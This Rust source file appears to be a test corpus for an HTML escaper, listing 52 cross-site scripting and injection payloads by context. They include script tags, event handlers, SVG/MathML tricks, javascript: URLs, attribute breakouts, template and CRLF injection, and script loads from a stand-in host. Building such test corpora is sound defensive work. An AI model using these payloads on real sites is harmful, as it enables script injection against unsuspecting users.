//! The texts. `RUN` stands for a piece of script that sets `window.hostile` to the text's number.

/// Where a text is dangerous if it is put there as it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Place {
    /// Between tags.
    Text,
    /// In an attribute between double quotes.
    DoubleQuotes,
    /// In an attribute between single quotes.
    SingleQuotes,
    /// In an attribute without quotes.
    NoQuotes,
    /// The address of a link.
    Link,
    /// In a textarea.
    Textarea,
    /// In the page's title.
    Title,
    /// In a comment.
    Comment,
    /// In a string of a script.
    Script,
    /// In a style sheet.
    Style,
    /// Nowhere in HTML: it must be shown, and nothing else.
    Nowhere,
}

/// A text.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Hostile {
    pub(crate) place: Place,
    text: &'static str,
}

impl Hostile {
    /// The text, under its number.
    pub(crate) fn text(self, number: usize) -> String {
        self.text.replace("RUN", &format!("window.hostile={number}"))
    }
}

const fn at(place: Place, text: &'static str) -> Hostile {
    Hostile { place, text }
}

/// All texts.
pub(crate) const CORPUS: [Hostile; 52] = [
    // Script tags.
    at(Place::Text, "<script>RUN</script>"),
    at(Place::Text, "<SCRIPT >RUN</SCRIPT\n>"),
    at(Place::Text, "<script src=\"data:text/javascript,RUN\"></script>"),
    at(Place::Text, "<script src=http://hostile.example/x.js></script>"),
    // Handlers.
    at(Place::Text, "<img src=x onerror=RUN>"),
    at(Place::Text, "<img/src=\"x\"/onerror=RUN>"),
    at(Place::Text, "<body onload=RUN>"),
    at(Place::Text, "<input autofocus onfocus=RUN>"),
    at(Place::Text, "<details open ontoggle=RUN>x</details>"),
    at(Place::Text, "<video><source onerror=\"RUN\"></video>"),
    at(
        Place::Text,
        "<div style=\"position:fixed;inset:0\" onmouseover=RUN data-hostile>x</div>",
    ),
    at(
        Place::Text,
        "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"RUN\">x</p>",
    ),
    at(Place::Text, "<img src=x onerror=\"alert('hostile')\">"),
    // SVG and MathML.
    at(Place::Text, "<svg onload=RUN>"),
    at(Place::Text, "<svg><script>RUN</script></svg>"),
    at(
        Place::Text,
        "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    ),
    at(
        Place::Text,
        "<svg><a xlink:href=\"javascript:RUN\"><text y=20>x</text></a></svg>",
    ),
    at(
        Place::Text,
        "<math data-hostile><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    ),
    // Frames, plug-ins, and the like.
    at(
        Place::Text,
        "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    ),
    at(Place::Text, "<iframe src=\"javascript:parent.RUN\"></iframe>"),
    at(
        Place::Text,
        "<object data=\"data:text/html,<script>RUN</script>\"></object>",
    ),
    at(Place::Text, "<embed src=\"data:text/html,hostile\">"),
    at(Place::Text, "<base href=\"http://hostile.example/\">"),
    at(
        Place::Text,
        "<meta http-equiv=refresh content=\"9999;url=http://hostile.example/\">",
    ),
    at(
        Place::Text,
        "<form action=\"javascript:RUN\"><button>x</button></form>",
    ),
    at(Place::Text, "<a id=hostile href=x data-hostile>x</a>"),
    at(
        Place::Text,
        "<link rel=stylesheet href=http://hostile.example/x.css data-hostile>",
    ),
    at(Place::Text, "<img src=http://hostile.example/x.png>"),
    // Addresses.
    at(Place::Link, "javascript:RUN"),
    at(Place::Link, "JaVaScRiPt:RUN"),
    at(Place::Link, "\u{1}java\tscript:RUN"),
    at(Place::Link, "data:text/html,<script>RUN</script>"),
    at(Place::Link, "vbscript:RUN"),
    // Out of attributes.
    at(Place::DoubleQuotes, "\"><script>RUN</script>"),
    at(Place::DoubleQuotes, "\" autofocus onfocus=\"RUN"),
    at(Place::SingleQuotes, "'><script>RUN</script>"),
    at(Place::SingleQuotes, "' autofocus onfocus='RUN"),
    at(Place::NoQuotes, "x onerror=RUN autofocus onfocus=RUN"),
    at(Place::NoQuotes, "x><script>RUN</script>"),
    // Out of other places.
    at(Place::Textarea, "</textarea><script>RUN</script>"),
    at(Place::Title, "</title><script>RUN</script>"),
    at(Place::Comment, "--><script>RUN</script><!--"),
    at(Place::Script, "';RUN;'"),
    at(Place::Script, "</script><img src=x onerror=RUN>"),
    at(Place::Style, "</style><script>RUN</script>"),
    at(Place::Style, "body{background:url(http://hostile.example/x.css)}"),
    // What becomes a tag if tags are taken out of it.
    at(Place::Nowhere, "<scr<script>ipt>RUN</scr</script>ipt>"),
    // What templates, formats and terminals take for theirs.
    at(
        Place::Nowhere,
        "{{RUN}}${RUN}<%= RUN %>#{RUN}{0}%s%n{{constructor.constructor('RUN')()}}",
    ),
    at(
        Place::Nowhere,
        "[x](javascript:RUN) ![x](http://hostile.example/x.png) [x]: javascript:RUN",
    ),
    at(
        Place::Nowhere,
        "\u{202e}RUN\u{202c} \u{200b}\u{feff}\u{2066}fdp.exe\u{2069} \u{0}\u{8}\u{1b}[31m\u{7f}\u{85}\u{2028}",
    ),
    at(
        Place::Nowhere,
        "x\r\nset-cookie: hostile=1\r\n\r\n<p data-hostile>&lt;b&gt;&amp;#60;&#x3c;script&#x3e;RUN",
    ),
    at(
        Place::Nowhere,
        "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft𝕳𝖔𝖘𝖙𝖎𝖑𝖊\u{1f468}\u{200d}\u{1f469}Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
    ),
];
